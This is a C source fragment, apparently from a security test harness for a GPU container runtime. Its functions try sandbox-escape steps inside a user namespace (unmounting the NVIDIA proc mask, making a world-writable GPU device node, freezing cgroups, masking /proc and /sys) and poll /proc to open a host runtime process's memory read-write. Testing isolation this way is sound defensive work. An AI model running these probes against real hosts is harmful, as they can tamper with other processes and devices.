/* What root with all capabilities of a user namespace does; a part of hostile.c. */
#include <dirent.h>
#include <sys/mount.h>
#include <sys/sysmacros.h>

/* Takes away whatever hides something, hides everything itself, and fills the card. */
static void attack_users(char **a) {
    say("unmasked", umount2("/proc/driver/nvidia", MNT_DETACH) ? -errno : 0);
    FILE *registry = fopen("/proc/driver/nvidia/registry", "w");
    say("registry", registry ? 0 : -errno);
    say("mknod", mknod("/tmp/card", S_IFCHR | 0666, makedev(195, 0)) ? -errno : 0);
    mkdir("/tmp/own", 0755);
    say("cgroups", unshare(CLONE_NEWCGROUP) || mount("x", "/tmp/own", "cgroup", 0, "freezer") ? -errno : 0);
    int state = open("/tmp/own/freezer.state", O_WRONLY);
    say("freezer", state < 0 || write(state, "FROZEN", 6) < 0 ? -errno : 0);
    say("proc", mount("x", "/proc", "tmpfs", 0, NULL) ? -errno : 0);
    say("sys", mount("x", "/sys", "tmpfs", 0, NULL) ? -errno : 0);
    say("nested", unshare(CLONE_NEWUSER | CLONE_NEWNS) ? -errno : 0);
    attack_fill(a);
}

static int is_named(const char *pid, const char *name) {
    char path[64], text[32] = {0};
    snprintf(path, sizeof path, "/proc/%.10s/comm", pid);
    int file = open(path, O_RDONLY);
    if (file < 0) return 0;
    ssize_t got = read(file, text, sizeof text - 1);
    close(file);
    return got > 0 && strncmp(text, name, strlen(name)) == 0;
}
/* Whether it can be looked into. Not as a tracer: what it has become meanwhile would wait for that one when it ends. */
static int opens(const char *pid) {
    char path[64], text[64];
    snprintf(path, sizeof path, "/proc/%.10s/exe", pid);
    if (readlink(path, text, sizeof text) >= 0) return 1;
    snprintf(path, sizeof path, "/proc/%.10s/mem", pid);
    int file = open(path, O_RDWR);
    if (file >= 0) close(file);
    return file >= 0;
}
/* Waits for processes that still are the runtime's, with the rights and the files of the host. */
static void attack_spy(char **a) {
    (void)a;
    int seen = 0;
    say("ready", 1);
    for (;;) {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(all));) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !is_named(entry->d_name, "egpu")) continue;
            if (!seen++) say("seen", 1);
            /* It may have become one of ours meanwhile. */
            if (opens(entry->d_name) && is_named(entry->d_name, "egpu")) say("opened", atoi(entry->d_name));
        }
        closedir(all);
    }
}
